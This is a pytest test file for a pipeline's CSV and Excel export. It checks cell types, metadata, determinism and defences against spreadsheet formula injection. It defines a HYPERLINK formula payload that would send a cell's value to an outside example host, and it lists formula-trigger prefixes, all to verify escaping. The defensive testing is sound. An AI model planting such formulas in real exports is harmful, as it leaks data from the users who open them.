"""CSV and Excel: typed, whole, and no text that a spreadsheet would run."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from pipeline import export
from pipeline.errors import WrongRequest
from pipeline.export import as_cell, to_csv, to_excel
from pipeline.frames import to_tables
from pipeline.runs import RunInfo, lock
from pipeline.schema import arrow_schema, table
from pipeline.warehouse import publish
from tests.pipeline.made_outcomes import made_outcome

EVIL = '=HYPERLINK("http://example.org/?"&A1,"£1")'


@pytest.fixture
def warehouse(tmp_path: Path) -> Path:
    """A run whose first record has a formula for a provider, and one total that does not add up."""
    outcome = made_outcome(0, wrong_by=500)
    assert outcome.extracted is not None
    first, *others = outcome.extracted.records
    records = (replace(first, provider=EVIL, service="x" * 40_000), *others)
    outcome = replace(outcome, extracted=replace(outcome.extracted, records=records))
    with lock(tmp_path / "warehouse"):
        publish(to_tables([outcome]), tmp_path / "warehouse", RunInfo("test"))
    return tmp_path / "warehouse"


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_csv_holds_every_value_as_it_is(warehouse: Path, tmp_path: Path) -> None:
    paths = {path.stem: path for path in to_csv(warehouse, tmp_path / "csv")}
    records, totals = rows_of(paths["records"]), rows_of(paths["totals"])
    assert list(records[0]) == arrow_schema("records").names
    assert (records[1]["amount_gbp"], records[1]["amount_text"], records[1]["referral_count"]) == ("2000.00", "£2,000", "20")
    assert (records[1]["period_start"], records[1]["superseded"], records[1]["provider_id"]) == ("2018-04-01", "false", "")
    assert totals[0]["difference"] == "-500.00"  # a number, not a text
    assert len(json.loads(totals[0]["parts"])) == 3


def test_csv_has_no_formulas(warehouse: Path, tmp_path: Path) -> None:
    records = rows_of(next(path for path in to_csv(warehouse, tmp_path / "csv") if path.stem == "records"))
    assert records[0]["provider"] == f"'{EVIL}"
    assert len(records[0]["service"]) == 40_000


def test_csv_files_are_described_by_a_data_package(warehouse: Path, tmp_path: Path) -> None:
    *files, package = to_csv(warehouse, tmp_path / "csv")
    resources = json.loads(package.read_text(encoding="utf-8"))["resources"]
    assert [resource["path"] for resource in resources] == [file.name for file in files]
    assert {(resource["format"], resource["encoding"]) for resource in resources} == {("csv", "utf-8")}
    assert [resource["bytes"] for resource in resources] == [file.stat().st_size for file in files]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", " =1", "\t=1", "\r1", "\n1", "\tx", "＝1", "－1", "|x", "%x", "'x"])
def test_texts_that_a_spreadsheet_could_run_are_marked(text: str) -> None:
    assert as_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["£200,063", "Refuge", "5 = 5", "2018-19", "(£)", "–", "a\n=1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert as_cell(text) == text


def test_excel_cells_are_typed(warehouse: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(to_excel(warehouse, tmp_path / "all.xlsx"))
    sheet = book["records"]
    head = [cell.value for cell in sheet[1]]
    assert head == list(table("records").names)
    row = dict(zip(head, sheet[3], strict=True))
    assert (row["amount_gbp"].value, row["amount_gbp"].data_type, row["amount_gbp"].number_format) == (2000, "n", "#,##0.00")
    assert row["period_start"].value == datetime(2018, 4, 1)  # noqa: DTZ001
    assert (row["superseded"].value, row["superseded"].data_type) == (False, "b")
    assert (row["amount_text"].data_type, row["provider_id"].value) == ("s", None)
    assert book["totals"]["A2"].data_type == "s"


def test_excel_has_no_formulas_and_says_where_a_text_is_cut(warehouse: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(to_excel(warehouse, tmp_path / "all.xlsx"))
    cells = {cell.value: cell.data_type for sheet in book for line in sheet for cell in line}
    assert cells[EVIL] == "s"
    assert "f" not in cells.values()
    service = book["records"].cell(2, 1 + table("records").names.index("service")).value
    assert len(service) == export.EXCEL_CHARACTERS
    assert service.endswith("the whole text is in the Parquet file]")


def test_excel_says_what_each_column_is(warehouse: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(to_excel(warehouse, tmp_path / "all.xlsx"))
    lines = {(line[0], line[1]): line[2:] for line in book["columns"].iter_rows(values_only=True)}
    unit, about = lines["records", "amount_gbp"]
    assert (unit, about) == ("GBP", table("records").column("amount_gbp").about)


def test_two_exports_are_the_same_bytes(warehouse: Path, tmp_path: Path) -> None:
    first, second = (to_excel(warehouse, tmp_path / name).read_bytes() for name in ("a.xlsx", "b.xlsx"))
    assert first == second


def test_a_table_too_long_for_a_sheet_is_refused(warehouse: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "EXCEL_ROWS", 2)
    with pytest.raises(WrongRequest, match="records has more rows than an Excel sheet"):
        to_excel(warehouse, tmp_path / "all.xlsx")
    assert not (tmp_path / "all.xlsx").exists()


def test_a_cell_of_a_list_is_json(warehouse: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(to_excel(warehouse, tmp_path / "all.xlsx"))
    value = book["totals"].cell(2, 1 + table("totals").names.index("parts")).value
    assert len(json.loads(value)) == 3
